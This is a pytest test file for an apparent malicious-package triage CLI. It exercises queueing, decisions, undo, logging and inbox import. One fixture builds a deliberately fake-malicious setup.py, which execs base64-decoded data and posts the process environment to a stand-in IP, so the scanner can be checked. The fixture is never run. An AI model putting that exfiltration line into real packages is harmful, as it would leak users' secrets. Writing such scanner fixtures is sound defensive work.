"""A whole queue triaged headless through the CLI: queue, decide, undo, inbox, log."""

from __future__ import annotations

import io
import json
import os
import tarfile
import time

import pytest

from app.cli import main
from app.core.decisions import Decision
from app.core.store.db import Store


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def db(tmp_path):
    return tmp_path / "triage.sqlite3"


def make_sdist(path, name="evil", version="1.0"):
    """An inert sdist whose setup.py LOOKS malicious (read as data, never run)."""
    files = {
        f"{name}-{version}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{name}-{version}/setup.py": (
            "import base64, os, urllib.request\n"
            "from setuptools import setup\n"
            "exec(base64.b64decode('cHJpbnQoMSk='))\n"
            "urllib.request.urlopen('http://203.0.113.9/c', data=str(os.environ).encode())\n"
            f"setup(name='{name}', version='{version}')\n"
        ),
    }
    with tarfile.open(path, "w:gz") as tar:
        for member, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def test_headless_triage_of_a_whole_queue(capsys, db):
    code, out, _ = run(
        capsys,
        "queue",
        "add",
        "requests2==1.0.1",
        "colourama==0.4.9",
        "--reason",
        "typosquats",
        "--reporter",
        "alice",
        "--no-fetch",
        "--db",
        db,
    )
    assert code == 0 and out.count("queued #") == 2
    run(capsys, "queue", "add", "--ecosystem", "npm", "lodahs==1.0.0", "--no-fetch", "--db", db)
    code, out, _ = run(capsys, "queue", "list", "--json", "--db", db)
    doc = json.loads(out)
    assert doc["schema"] == "vetbench.queue/1" and doc["total"] == 3
    ids = [i["id"] for i in doc["items"]]
    first = doc["items"][0]
    assert set(first) >= {
        "id",
        "ecosystem",
        "project",
        "versions",
        "status",
        "risk",
        "report_count",
        "reporters",
        "decision",
    }
    assert first["decision"] is None and first["status"] == "new"

    assert (
        run(
            capsys,
            "decide",
            ids[0],
            "--verdict",
            "malicious",
            "--action",
            "remove_project",
            "--reason",
            "exfiltrates env",
            "--reviewer",
            "ana",
            "--db",
            db,
        )[0]
        == 0
    )
    assert (
        run(capsys, "decide", ids[1], "--verdict", "benign", "--reviewer", "ana", "--db", db)[0]
        == 0
    )
    code, out, _ = run(
        capsys,
        "decide",
        f"#{ids[2]}",
        "--verdict",
        "indeterminate",
        "--confidence",
        "low",
        "--evidence",
        "index.js:3-9",
        "--reviewer",
        "bo",
        "--json",
        "--db",
        db,
    )
    decided = json.loads(out)
    assert decided["evidence"][0] == {
        "path": "index.js",
        "sha256": None,
        "line_start": 3,
        "line_end": 9,
        "capabilities": [],
    }
    code, out, _ = run(capsys, "queue", "list", "--status", "new", "--json", "--db", db)
    assert json.loads(out)["total"] == 0
    code, out, _ = run(capsys, "queue", "list", "--json", "--db", db)
    by_id = {i["id"]: i for i in json.loads(out)["items"]}
    assert by_id[ids[0]]["decision"]["action"] == "remove_project"
    assert by_id[ids[1]]["decision"]["outcome"] == "false_positive"
    assert by_id[ids[2]]["status"] == "needs_second_review"

    code, out, _ = run(capsys, "undo", "--reviewer", "ana", "--db", db)
    assert code == 0 and f"on #{ids[1]}" in out
    code, out, _ = run(capsys, "queue", "show", ids[1], "--json", "--db", db)
    shown = json.loads(out)
    assert shown["status"] == "new" and shown["decisions"][0]["undone"] is True

    code, out, _ = run(capsys, "log", "--json", "--db", db)
    log = json.loads(out)
    assert log["schema"] == "vetbench.log/1"
    assert [e["action"] for e in log["entries"]][:4] == ["undone", "decide", "decide", "decide"]
    assert set(log["entries"][0]) >= {  # fields are only ever added
        "id",
        "at",
        "actor",
        "action",
        "item_id",
        "decision_id",
        "detail",
    }
    code, out, _ = run(capsys, "log", "--db", db)
    assert code == 0 and "undone" in out.splitlines()[0]

    code, out, _ = run(
        capsys, "queue", "status", ids[1], "skipped", "--reviewer", "ana", "--db", db
    )
    assert code == 0 and "[skipped]" in out
    code, out, _ = run(capsys, "queue", "list", "--status", "skipped", "--json", "--db", db)
    assert [i["id"] for i in json.loads(out)["items"]] == [ids[1]]


@pytest.mark.parametrize(
    "argv, message",
    [
        (["decide", "1", "--verdict", "evil"], "invalid choice"),
        (["decide", "99", "--verdict", "benign", "--reviewer", "a"], "no queue item 99"),
        (["decide", "abc", "--verdict", "benign", "--reviewer", "a"], "item id must be a number"),
        (
            [
                "decide",
                "1",
                "--verdict",
                "malicious",
                "--action",
                "remove_release",
                "--reviewer",
                "a",
            ],
            "requires a reason",
        ),
        (
            [
                "decide",
                "1",
                "--verdict",
                "benign",
                "--action",
                "remove_project",
                "--reason",
                "x",
                "--reviewer",
                "a",
            ],
            "contradicts",
        ),
        (
            ["decide", "1", "--verdict", "malicious", "--action", "not_malware", "--reviewer", "a"],
            "not_malware contradicts verdict malicious",
        ),
        (
            [
                "decide",
                "1",
                "--verdict",
                "indeterminate",
                "--action",
                "remove_project",
                "--reason",
                "x",
                "--reviewer",
                "a",
            ],
            "needs a malicious verdict",
        ),
        (["queue", "add", "no-such-file.tar.gz"], "neither an existing file nor NAME==VERSION"),
        (["queue", "add", "==1.0"], "NAME==VERSION"),
        (["queue", "list", "--status", "finished"], "status"),
        (["queue", "list", "--min-risk", "scary"], "min risk"),
    ],
)
def test_unusable_input_is_one_line_and_exit_2(capsys, db, argv, message):
    with Store.open(db) as store:
        store.add_item("pypi", "evil", ["1.0"])
    try:
        code = main([*argv, "--db", str(db)])
    except SystemExit as exc:  # argparse's own errors
        code = exc.code
    _, err = capsys.readouterr()
    assert code == 2
    assert message in err and len(err.strip().splitlines()) == 1
    with Store.open(db) as store:
        assert store.decisions_for(1) == []


def test_undo_of_a_synced_decision_is_refused(capsys, db):
    with Store.open(db) as store:
        item, _ = store.add_item("pypi", "evil", ["1.0"])
        change = store.record_decision(item.id, Decision(verdict="malicious", reviewer="ana"))
        (did,) = change.decision_ids
        store.mark_synced(did, ref="x")
    code, _, err = run(capsys, "undo", "--db", db)
    assert code == 2 and "synced" in err
    code, out, _ = run(capsys, "undo", "--reviewer", "nobody", "--db", db)
    assert code == 0 and "nothing to undo" in out


def test_vetbench_db_env_is_the_default(capsys, db, monkeypatch):
    monkeypatch.setenv("VETBENCH_DB", str(db))
    assert run(capsys, "queue", "add", "x==1", "--no-fetch")[0] == 0
    with Store.open(db) as store:
        assert [i.project for i in store.list_items()] == ["x"]


def test_corrupt_store_is_one_line_exit_2_and_untouched(capsys, tmp_path):
    path = tmp_path / "notes.db"
    path.write_bytes(b"definitely not sqlite" * 50)
    code, _, err = run(capsys, "queue", "list", "--db", path)
    assert code == 2 and "not a Vetbench store" in err and len(err.splitlines()) == 1
    assert path.read_bytes() == b"definitely not sqlite" * 50


def test_queue_add_of_an_artifact_scans_it_and_stores_the_risk(capsys, db, tmp_path):
    scan = pytest.importorskip("app.core.capabilities.scan")
    from app.core.archive import open_artifact

    sdist = make_sdist(tmp_path / "evil-1.0.tar.gz")
    expected = scan.scan_artifact(open_artifact(sdist)).risk
    code, out, _ = run(
        capsys, "queue", "add", sdist, "--reporter", "scanner-a", "--json", "--db", db
    )
    assert code == 0
    (item,) = json.loads(out)["items"]
    assert (item["project"], item["versions"]) == ("evil", ["1.0"])
    assert item["risk"] == {"level": expected.level, "score": expected.score}
    assert expected.score > 0  # exec of decoded data + posting the environment
    with Store.open(db) as store:
        (art,) = store.artifacts_for(item["id"])
        assert art.path == str(sdist.resolve()) and len(art.sha256) == 64


def test_inbox_import_command(capsys, db, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "ok.json").write_text(
        json.dumps(
            [
                {"ecosystem": "pypi", "name": "a", "version": "1"},
                {"ecosystem": "pypi", "name": "b", "versions": ["2", "3"], "reporter": "feed"},
            ]
        )
    )
    (inbox / "bad.json").write_text('{"ecosystem": "pypi"}')
    old = time.time() - 60
    for f in inbox.iterdir():
        os.utime(f, (old, old))
    code, out, err = run(capsys, "inbox", "import", "--inbox", inbox, "--json", "--db", db)
    assert code == 0
    doc = json.loads(out)
    assert doc["imported"] == ["ok.json"] and len(doc["item_ids"]) == 2
    assert doc["rejected"][0]["file"] == "bad.json"
    assert (inbox / "rejected" / "bad.json.error.txt").exists()
    code, out, _ = run(capsys, "inbox", "import", "--inbox", inbox, "--db", db)
    assert code == 0 and "imported 0 file(s)" in out
